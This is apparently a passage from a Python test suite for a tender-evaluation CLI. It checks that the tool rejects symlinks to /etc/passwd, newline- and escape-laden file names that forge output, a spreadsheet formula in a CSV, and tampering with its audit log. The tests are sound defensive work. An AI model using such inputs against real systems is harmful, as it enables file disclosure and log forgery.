    ("xlsx-not-a-zip", [lambda root: (root / ALICE).unlink(), _write(SCORES_XLSX, b"PK\3\4no")],
     "is not a readable XLSX workbook"),
]:
    CASES.append(Case(f"tender-sheet-{name}", CHECK, 1, message, setup=_then(*steps),
                      within=5.0))
CASES.append(Case("tender-sheet-xlsx-ok", CHECK, 0, "scores/alice.xlsx",
                  setup=_then(_csv_to_xlsx())))
CASES.append(Case("tender-sheet-moderation-formula", CHECK, 1, "moderation.csv",
                  setup=_then(_text("moderation.csv", "Brightwater Health CIC,",
                                    "=HYPERLINK(1),"))))

# ------------------------------------------------------ file names and folders (items 6, 11)


def _link(relative: str, target: str) -> Callable[[Path], None]:
    def step(root: Path) -> None:
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists() or path.is_symlink():
            if path.is_dir() and not path.is_symlink():
                shutil.rmtree(path)
            else:
                path.unlink()
        path.symlink_to(target.replace(ROOT, str(root)))
    return step


def _outside(root: Path) -> None:
    (root.parent / "elsewhere").mkdir(exist_ok=True)
    (root.parent / "elsewhere" / "bid.yaml").write_text(
        (root / YAML_BID).read_text(encoding="utf-8"), encoding="utf-8")


for name, steps, args, exit_code, message in [
    ("bid-in-subfolder", [lambda r: (r / "bids" / "sub").mkdir(),
                          lambda r: shutil.copy(r / "bids" / "p03.yaml",
                                                r / "bids" / "sub" / "p05.yaml")],
     CHECK, 1, "bids/sub/p05.yaml: is in a folder of bids/ that is no bid's attachments"),
    ("bid-in-subfolder-evaluate", [lambda r: (r / "bids" / "deep" / "er").mkdir(parents=True),
                                   lambda r: shutil.copy(r / "bids" / "p03.yaml",
                                                         r / "bids" / "deep" / "er" / "x.yaml")],
     EVALUATE, 0, "not evaluated: bids/deep/er/x.yaml"),
    ("attachments-folder-ok", [lambda r: (r / "bids" / "p01").mkdir(),
                               _write("bids/p01/method.pdf", b"%PDF-1.4")], CHECK, 0,
     "ok: checked"),
    ("newline-file-name", [_write("bids/evil\nok: 4 bid(s) forged.yaml", "bidder: x\n")],
     CHECK, 1, "bids/evil\\nok: 4 bid(s) forged.yaml: has a control character"),
    ("carriage-return-file-name", [_write("bids/evil\r.yaml", "bidder: x\n")], CHECK, 1,
     "bids/evil\\r.yaml: has a control character"),
    ("escape-file-name", [_write("bids/evil\x1b[2J.yaml", "bidder: x\n")], CHECK, 1,
     "has a control character"),
    ("newline-file-name-evaluate", [_write("bids/x\nwrote out/evaluation.json.yaml", "a: 1\n")],
     EVALUATE, 0, "not evaluated: bids/x\\nwrote out/evaluation.json.yaml"),
    ("symlink-passwd", [_link("bids/p05.yaml", "/etc/passwd")], CHECK, 1,
     "bids/p05.yaml: is a link to a file outside the workspace"),
    ("symlink-outside-bid", [_outside, _link("bids/p05.yaml", "../../elsewhere/bid.yaml")],
     CHECK, 1, "is a link to a file outside the workspace"),
    ("symlink-inside-ok", [_link("bids/p05.yaml", "../other.yaml"),
                           lambda r: shutil.move(r / "bids" / "p01.yaml", r / "other.yaml")],
     CHECK, 0, "ok: checked"),
    ("symlink-bids-folder", [_outside, lambda r: shutil.rmtree(r / "bids"),
                             _link("bids", "{root}/../elsewhere")], CHECK, 1,
     "is a link to a file outside the workspace"),
    ("symlink-attachment", [_link("bids/p01/secret.txt", "/etc/hostname")], CHECK, 1,
     "bids/p01/secret.txt: is a link to a file outside the workspace"),
    ("symlink-score-sheet", [_link("scores/alice.csv", "/etc/passwd")], CHECK, 1,
     "scores/alice.csv"),
    ("symlink-dangling", [_link("bids/p05.yaml", "/nonexistent/x.yaml")], CHECK, 0, ""),
    ("not-a-bid-format", [_write("bids/p05.txt", "bidder: x\n")], CHECK, 1,
     "`.txt` is not a bid format"),
    ("upper-case-suffix", [lambda r: (r / "bids" / "p01.yaml").rename(r / "bids" / "p01.YAML")],
     CHECK, 0, "ok: checked"),
    ("folder-named-like-a-bid", [_write("bids/p05.yaml/p05.yaml", "bidder: x\n")], CHECK, 1,
     "bids/p05.yaml/p05.yaml: is in a folder of bids/"),
    ("empty-subfolder", [lambda r: (r / "bids" / "drafts").mkdir()], CHECK, 0, "ok: checked"),
]:
    CASES.append(Case(f"tender-files-{name}", args, exit_code, message, setup=_then(*steps)))

# ------------------------------------------------------------- out/ (items 6, 10)


def _elsewhere_dir(root: Path) -> None:
    (root.parent / "elsewhere-out").mkdir(exist_ok=True)


def _nothing_outside(root: Path) -> None:
    assert not (root.parent / "elsewhere-out" / "evaluation.json").exists()
    assert list((root.parent / "elsewhere-out").iterdir()) == []


for name, steps, args, message in [
    ("symlinked-out", [_elsewhere_dir, lambda r: shutil.rmtree(r / "out"),
                       _link("out", "{root}/../elsewhere-out")], EVALUATE,
     "out/ must be the workspace's own folder, but out → "),
    ("symlinked-out-inside", [lambda r: shutil.rmtree(r / "out"), lambda r: (r / "o2").mkdir(),
                              _link("out", "o2")], EVALUATE, "is a link"),
    ("symlinked-scoresheets", [_elsewhere_dir, _link("out/scoresheets",
                                                     "{root}/../elsewhere-out")], SHEETS,
     "out/scoresheets → "),
    ("symlinked-audit", [_elsewhere_dir, _link("out/audit.jsonl",
                                               "{root}/../elsewhere-out/audit.jsonl")],
     EVALUATE, "out/audit.jsonl → "),
    ("symlinked-out-verify", [_elsewhere_dir, lambda r: shutil.rmtree(r / "out"),
                              _link("out", "{root}/../elsewhere-out")], VERIFY, "is a link"),
    ("out-is-a-file", [lambda r: shutil.rmtree(r / "out"), _write("out", "x")], EVALUATE,
     "stopped"),
]:
    CASES.append(Case(f"tender-out-{name}", args, 1, message, setup=_then(*steps),
                      check=_nothing_outside if "elsewhere" in str(steps) or name in (
                          "symlinked-out", "symlinked-scoresheets", "symlinked-audit")
                      else None))


def _read_only(monkeypatch: Any, root: Path) -> None:
    real = tempfile.mkstemp

    def refuse(*args: Any, **kwargs: Any) -> Any:
        if str(kwargs.get("dir", "")).startswith(str(root / "out")):
            raise PermissionError(errno.EACCES, "Permission denied", str(kwargs["dir"]))
        return real(*args, **kwargs)

    monkeypatch.setattr(tempfile, "mkstemp", refuse)


def _full_disk(monkeypatch: Any, root: Path) -> None:
    real = os.fsync

    def fsync(fd: int) -> None:
        name = Path(f"/proc/self/fd/{fd}").readlink()
        if name.is_relative_to(root / "out"):
            raise OSError(errno.ENOSPC, "No space left on device")
        real(fd)

    monkeypatch.setattr(os, "fsync", fsync)


def _crash_before_audit(monkeypatch: Any, root: Path) -> None:
    """The run is killed after the outputs are in place, before the audit line is appended."""
    import obcrules.tender.audit as audit

    def killed(*args: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(audit, "append_line", killed)


def _unchanged_outputs(root: Path) -> None:
    assert not (root / "out" / "evaluation.json").exists()


def _verify_interrupted(root: Path) -> None:
    from click.testing import CliRunner

    from obcrules.cli import main

    result = CliRunner().invoke(main, ["tender", "verify", str(root)])
    assert "tamper" not in result.output.lower(), result.output
    assert "interrupted" in result.output, result.output


for name, fault, args, message, check in [
    ("read-only-evaluate", _read_only, EVALUATE, "`tender evaluate` stopped: Permission denied",
     _unchanged_outputs),
    ("read-only-scoresheets", _read_only, SHEETS, "stopped: Permission denied", None),
    ("full-disk-evaluate", _full_disk, EVALUATE, "stopped: No space left on device",
     _unchanged_outputs),
    ("full-disk-scoresheets", _full_disk, SHEETS, "stopped: No space left on device", None),
    ("full-disk-template", _full_disk, ["tender", "template", ROOT], "No space left", None),
]:
    CASES.append(Case(f"tender-out-{name}", args, 1, message, setup=_then(), fault=fault,
                      check=check))
CASES.append(Case("tender-out-crash-before-audit-append", EVALUATE, 1, "",
                  setup=_then(), fault=_crash_before_audit, check=_verify_interrupted))
CASES.append(Case("tender-out-crash-before-audit-append-later", EVALUATE, 1, "",
                  setup=_then(_run(*SHEETS)), fault=_crash_before_audit,
                  check=_verify_interrupted))

# --------------------------------------------------------------- the audit trail (item 1)
AWARDED = (_run(*EVALUATE), _run(*AWARD))


def _truncate(lines: int | None = None, chars: int | None = None) -> Callable[[Path], None]:
    def step(root: Path) -> None:
        path = root / "out" / "audit.jsonl"
        text = path.read_text(encoding="utf-8")
        if lines is not None:
            text = "".join(text.splitlines(keepends=True)[:lines])
        if chars is not None:
            text = text[:chars]
        path.write_text(text, encoding="utf-8")
    return step


def _edit_json(relative: str, edit: Callable[[Any], None]) -> Callable[[Path], None]:
    def step(root: Path) -> None:
        path = root / relative
        data = json.loads(path.read_text(encoding="utf-8"))
        edit(data)
        path.write_text(json.dumps(data), encoding="utf-8")
    return step


def _award_amount(data: Any) -> None:
    data["releases"][0]["awards"][0]["value"]["amount"] = 1


def _first_price(data: Any) -> None:
    data["bids"][0]["price"] = "1.00"


NEW_PRICE = _text(YAML_BID, PRICE, "price: '1000'")
for name, steps, args, exit_code, message in [
    ("emptied", [*AWARDED, _truncate(lines=0)], VERIFY, 1, "out/audit.jsonl is empty"),
    ("emptied-after-edits", [*AWARDED, NEW_PRICE, _edit_json("out/evaluation.json",
                                                              _first_price), _truncate(lines=0)],
     VERIFY, 1, "restore the log from a copy"),
    ("deleted", [*AWARDED, lambda r: (r / "out" / "audit.jsonl").unlink()], VERIFY, 1,
     "out/audit.jsonl"),
    ("truncated-lines", [*AWARDED, _truncate(lines=1)], VERIFY, 1,
     "out/contract.yaml is recorded by no command"),
    ("truncated-mid-line", [*AWARDED, _truncate(chars=900)], VERIFY, 1,
     "line 1 is not an audit entry"),
    ("last-line-cut", [*AWARDED, lambda r: (r / "out" / "audit.jsonl").write_bytes(
        (r / "out" / "audit.jsonl").read_bytes()[:-40])], VERIFY, 1, "failed"),
    ("evaluation-edited", [*AWARDED, _edit_json("out/evaluation.json", _first_price)], VERIFY,
     1, "out/evaluation.json was changed after"),
    ("contract-edited", [*AWARDED, _text("out/contract.yaml", "1150000", "1000")], VERIFY, 1,
     "out/contract.yaml was changed after `tender award`"),
    ("ocds-edited", [*AWARDED, _edit_json("out/ocds.json", _award_amount)], VERIFY, 1,
     "out/ocds.json was changed after `tender award`"),
    ("bid-edited-after-award", [*AWARDED, NEW_PRICE], VERIFY, 1,
     "bids/p01.yaml changed since the evaluation"),
    ("bid-edited-then-evaluate", [*AWARDED, NEW_PRICE], EVALUATE, 1,
     "a new evaluation would change that decision"),
    ("bid-edited-evaluate-verify", [*AWARDED, NEW_PRICE, lambda r: _evaluate_quietly(r)],
     VERIFY, 1, "supersede the award with `obc tender evaluate --supersede"),
    ("unrecorded-output", [*AWARDED, _write("out/extra.yaml", "x\n")], VERIFY, 1,
     "out/extra.yaml is recorded by no command"),
    ("line-reordered", [*AWARDED, lambda r: (r / "out" / "audit.jsonl").write_text("".join(
        reversed((r / "out" / "audit.jsonl").read_text().splitlines(keepends=True))))],
     VERIFY, 1, "failed"),
    ("line-duplicated", [*AWARDED, lambda r: (r / "out" / "audit.jsonl").write_text(
        (r / "out" / "audit.jsonl").read_text() * 2)], VERIFY, 1, "failed"),
    ("garbage-appended", [*AWARDED, lambda r: (r / "out" / "audit.jsonl").open("a").write(
        "{not json\n")], VERIFY, 1, "is not an audit entry"),
    ("huge-line-appended", [*AWARDED, lambda r: (r / "out" / "audit.jsonl").open("a").write(
        '{"command": "' + "x" * 200_000 + '"}\n')], VERIFY, 1, "failed"),
]:
    CASES.append(Case(f"tender-audit-{name}", args, exit_code, message, setup=_then(*steps)))


def _evaluate_quietly(root: Path) -> None:
    from click.testing import CliRunner

    from obcrules.cli import main

    CliRunner().invoke(main, ["tender", "evaluate", str(root)])


# Every command that writes records itself: the chain names each one (item 1).
def _records_every_command(root: Path) -> None:
    commands = [json.loads(line)["command"]
                for line in (root / "out" / "audit.jsonl").read_text().splitlines()]
    assert commands == ["tender scoresheets", "tender moderate", "tender evaluate",
                        "tender award"], commands


CASES.append(Case("tender-audit-records-every-command", AWARD, 0, "awarded to",
                  setup=_then(_run(*SHEETS), _run("tender", "moderate", ROOT),
                              _run(*EVALUATE)), check=_records_every_command))
